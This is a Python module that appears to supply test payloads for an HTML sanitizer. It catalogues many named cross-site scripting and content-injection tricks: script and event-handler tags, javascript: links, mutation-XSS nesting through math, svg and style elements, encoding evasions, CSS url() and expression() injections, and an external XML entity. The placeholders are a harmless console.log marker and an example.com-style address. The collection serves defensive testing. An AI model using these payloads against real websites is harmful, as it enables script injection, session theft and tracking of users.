# ruff: noqa: E501
"""What markup has been made to do to pages, by name. `{js}` is a script that says that it ran,
`{url}` an address that nobody may ask for. From public collections of such tricks and from the
advisories of HTML sanitizers."""

import re

HTML = {
    "script": "<script>{js}</script>",
    "script in capitals": "<SCRIPT>{js}</SCRIPT>",
    "script with a slash": "<script/x>{js}</script>",
    "script from elsewhere": '<script src="{url}"></script>',
    "script within a script": "<scr<script></script>ipt>{js}</script>",
    "script of a module": '<script type="module">{js}</script>',
    "end of a style sheet, then a script": "</style><script>{js}</script>",
    "end of a title, then a script": "</title></textarea><script>{js}</script>",
    "end of a comment, then a script": "--><script>{js}</script>",
    "end of a comment with an exclamation": "<!-- --!><script>{js}</script>",
    "comment that ends at once": "<!--><script>{js}</script>-->",
    "conditional comment": "<!--[if true]><script>{js}</script><![endif]-->",
    "section of data": "<![CDATA[<script>{js}</script>]]>",
    "instruction": "<?xml version='1.0'?><?x <script>{js}</script>?>",
    "picture that fails": '<img src=x onerror="{js}">',
    "picture that fails, with slashes": '<img/src=x/onerror="{js}"/>',
    "picture within an attribute": '<p title="</p><img src=x onerror={js}>">',
    "picture that fails, without a space": '<img src="x"onerror="{js}">',
    "picture from elsewhere": '<img src="{url}" alt="a">',
    "picture of another size from elsewhere": '<img srcset="{url} 2x" alt="a" src="data:image/png;base64,AA">',
    "picture with a source": '<picture><source srcset="{url}"><img alt="a"></picture>',
    "picture that loads late": '<img loading="lazy" lowsrc="{url}" dynsrc="{url}" alt="a">',
    "body that loads": '<body onload="{js}" background="{url}">',
    "frame": '<iframe src="javascript:{js}"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "frameset": '<frameset onload="{js}"><frame src="{url}"></frameset>',
    "object": '<object data="{url}"></object><embed src="{url}"><applet code="{url}"></applet>',
    "form": '<form action="{url}"><input autofocus onfocus="{js}"><button>x</button></form>',
    "button that sends": '<button formaction="javascript:{js}" autofocus onfocus="{js}">x</button>',
    "input with a picture": '<input type="image" src="{url}" onerror="{js}">',
    "list to choose from": '<select autofocus onfocus="{js}"><option>x</option></select>',
    "text area": '<textarea autofocus onfocus="{js}">x</textarea>',
    "field to edit": '<p contenteditable autofocus tabindex="0" onfocus="{js}">x</p>',
    "fold that opens": '<details open ontoggle="{js}"><summary>x</summary>y</details>',
    "marquee": '<marquee onstart="{js}">x</marquee>',
    "sound": '<audio src="{url}" autoplay onerror="{js}"></audio>',
    "film": '<video poster="{url}" autoplay><source src="{url}" onerror="{js}"></video>',
    "track": '<video><track default src="{url}"></video>',
    "dialog": '<dialog open onfocus="{js}">x</dialog>',
    "popover": '<p popover onbeforetoggle="{js}">x</p>',
    "base": '<base href="{url}/">',
    "meta that leads away": '<meta http-equiv="refresh" content="0;url={url}">',
    "meta with a script": '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    "meta of letters": '<meta charset="utf-7">+ADw-script+AD4-{js}+ADw-/script+AD4-',
    "letters of another set": "\x1b$B<script>{js}</script>\x1b(B",
    "half a letter": "\ud800<script>{js}</script>",
    "nothing within a name": "<scr\x00ipt>{js}</scr\x00ipt>",
    "style sheet from elsewhere": '<link rel="stylesheet" href="{url}">',
    "address asked for early": '<link rel="preload" as="image" href="{url}"><link rel="prefetch" href="{url}">',
    "link that is a script": '<a href="javascript:{js}">x</a>',
    "link that is a script, with a tab": '<a href="java&#9;script:{js}">x</a>',
    "link that is a script, in entities": '<a href="&#106;&#x61;vascript&colon;{js}">x</a>',
    "link that is a script, with a line's end": '<a href="\njava\nscript\n:{js}">x</a>',
    "link that is a script, after a sign": '<a href="\x01javascript:{js}">x</a>',
    "link that is a page": '<a href="data:text/html,<script>{js}</script>">x</a>',
    "link of an old kind": '<a href="vbscript:{js}">x</a><a href="livescript:{js}">x</a>',
    "link that is asked twice": '<a href="#a" ping="{url}" target="_blank">x</a>',
    "area of a map": '<map name="m"><area href="javascript:{js}" ping="{url}"></map>',
    "table with a background": '<table background="{url}"><tr><td background="{url}">x</td></tr></table>',
    "table that acts": '<table><tr onmouseover="{js}"><td onclick="{js}">x</td></tr></table>',
    "table left open": "<table><tr><td><script>{js}</script>",
    "attribute left open": '<a title="x',
    "comment left open": "<!-- x",
    "elements left open": "<div><section><details><b><i>",
    "elements closed that are not its own": "</p></div></section></main></body></html>",
    "element that ends the page": "<plaintext>",
    "element that shows its markup": "<xmp><script>{js}</script></xmp><listing>x</listing>",
    "template": "<template><script>{js}</script></template>",
    "shadow": '<div><template shadowrootmode="open"><img src=x onerror="{js}"></template></div>',
    "slot": '<slot onslotchange="{js}"></slot><x-y onclick="{js}">x</x-y>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>',
    "noembed": '<noembed><p title="</noembed><img src=x onerror={js}>"></noembed>',
    "noframes": '<noframes><p title="</noframes><img src=x onerror={js}>"></noframes>',
    "style that is none": '<style><p title="</style><img src=x onerror={js}>"></style>',
    "nested forms": '<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>',
    "mglyph": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">",
    "malignmark": "<math><mtext><malignmark><style><img src=x onerror={js}>",
    "annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror={js}></style></annotation-xml></math>',
    "annotation that is a picture": '<math><annotation-xml encoding="image/svg+xml"><svg><script>{js}</script></svg></annotation-xml></math>',
    "formula that leads": '<math href="javascript:{js}"><mi xlink:href="javascript:{js}">x</mi></math>',
    "formula with an action": '<math><maction actiontype="statusline#http://x" href="javascript:{js}">x</maction></math>',
    "style within a drawing": "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    "title within a drawing": "<svg><title><style><img title=\"</style></title><img src=x onerror={js}>\"></title></svg>",
    "description within a drawing": "<svg><desc><noscript><img title=\"</noscript><img src=x onerror={js}>\"></desc></svg>",
    "deep": "<b>" * 520 + "<svg><style><img src=x onerror={js}>",
    "paragraphs across a drawing": "<svg><p><style><!--</style><img src=x onerror={js}>--></style>",
}  # fmt: skip
DRAWINGS = {
    "script in a drawing": "<script>{js}</script>",
    "script in a drawing from elsewhere": '<script href="{url}" xlink:href="{url}"/>',
    "drawing that loads": '<g onload="{js}"><rect onbegin="{js}"/></g>',
    "style sheet in a drawing": "<style>@import '{url}';*{background:url({url})}</style>",
    "foreign object": '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{js}"/></foreignObject>',
    "use of data": '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x"/>',
    "use from elsewhere": '<use xlink:href="{url}#x"/>',
    "picture in a drawing": '<image href="{url}" xlink:href="{url}" onerror="{js}"/>',
    "picture of a filter": '<filter id="f"><feImage href="{url}"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    "paint from elsewhere": '<rect fill="url({url}#p)" style="fill:url({url}#q)" width="9" height="9"/>',
    "mask from elsewhere": '<rect mask="url({url}#m)" clip-path="url({url}#c)" filter="url({url}#f)" width="9" height="9"/>',
    "paint in other signs": r'<rect fill="u\72l({url}#p)" clip-path="\75 rl({url}#c)" width="9" height="9"/>',
    "marker from elsewhere": '<path d="M0 0L9 9" marker-end="url({url}#m)"/>',
    "link in a drawing": '<a xlink:href="javascript:{js}" href="javascript:{js}"><text y="9">x</text></a>',
    "link that becomes a script": '<a id="l" href="#x"><animate attributeName="href" values="javascript:{js}"/><text>x</text></a>',
    "handler that is set": '<rect width="9" height="9"><set attributeName="onmouseover" to="{js}"/></rect>',
    "handler of a course": '<rect><animate onbegin="{js}" attributeName="x" dur="1s"/></rect>',
    "course along a path": '<animateMotion onend="{js}"/><discard onbegin="{js}"/>',
    "handler of old": '<handler type="text/javascript" ev:event="load">{js}</handler>',
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><text>&e;</text>',
}  # fmt: skip
STYLES = {
    "address": "background:url({url})",
    "address in quotes": "background-image:url('{url}')",
    "address in other signs": r"background:\75 rl({url})",
    "address in other signs within": r"background:u\72l({url})",
    "address behind a comment": "background:/**/url({url})/**/",
    "address behind a star": "background:red/*;*/;background-image:url({url})",
    "address in capitals": "BACKGROUND:URL({url})",
    "address of a picture set": "background-image:image-set('{url}' 1x)",
    "address of a picture set of old": "background-image:-webkit-image-set(url({url}) 1x)",
    "address of a cursor": "cursor:url({url}),auto",
    "address of a list": "list-style:url({url});list-style-image:url({url})",
    "address of a border": "border-image:url({url}) 1;border-image-source:url({url})",
    "address of a mask": "mask:url({url});-webkit-mask-image:url({url})",
    "address of a shape": "shape-outside:url({url});clip-path:url({url}#a)",
    "address of a filter": "filter:url({url}#a);backdrop-filter:url({url}#a)",
    "address of what is written before": "content:url({url})",
    "address in a variable": "--a:url({url});background:var(--a)",
    "address that crosses": "background-image:cross-fade(url({url}),url({url}),50%)",
    "address as a source": "background-image:src('{url}')",
    "expression": "width:expression({js})",
    "binding": "-moz-binding:url({url}#a);behavior:url({url})",
    "importance": "background:url({url}) !important",
    "end of the rule": "color:red}*{background:url({url})",
    "end of the sheet": "color:red}@import '{url}';*{color:red",
    "string left open": "font-family:'a;background:url({url})",
    "address left open": "background:url({url}",
    "font from elsewhere": "color:red}@font-face{font-family:z;src:url({url})}*{font-family:z",
}  # fmt: skip


def all_payloads() -> dict[str, str]:
    """Every payload as HTML, by a name that it says when it runs or asks."""
    drawn = {
        name: f'<svg aria-label="a" width="9" height="9">{inside}</svg>'
        for name, inside in DRAWINGS.items()
    }
    styled = {f"{name} in a style": f'<p style="{style}">x</p>' for name, style in STYLES.items()}
    sheets = {
        f"{name} in a style sheet": f"<style>p,td{{{style}}}</style><p>x</p>"
        "<table><tr><td>x</td></tr></table>"
        for name, style in STYLES.items()
    }
    sheets["import in a style sheet"] = "<style>@import '{url}';@import url({url});</style><p>x</p>"
    sheets["space in a style sheet"] = "<style>@namespace url({url});td{color:red}</style><p>x</p>"
    return {name: _named(text, name) for name, text in (HTML | drawn | styled | sheets).items()}


def _named(payload: str, name: str) -> str:
    name = re.sub(r"\W+", "-", name)
    js, url = f"console.log(`ran-{name}`)", f"https://x.example/{name}"
    return payload.replace("{js}", js).replace("{url}", url)
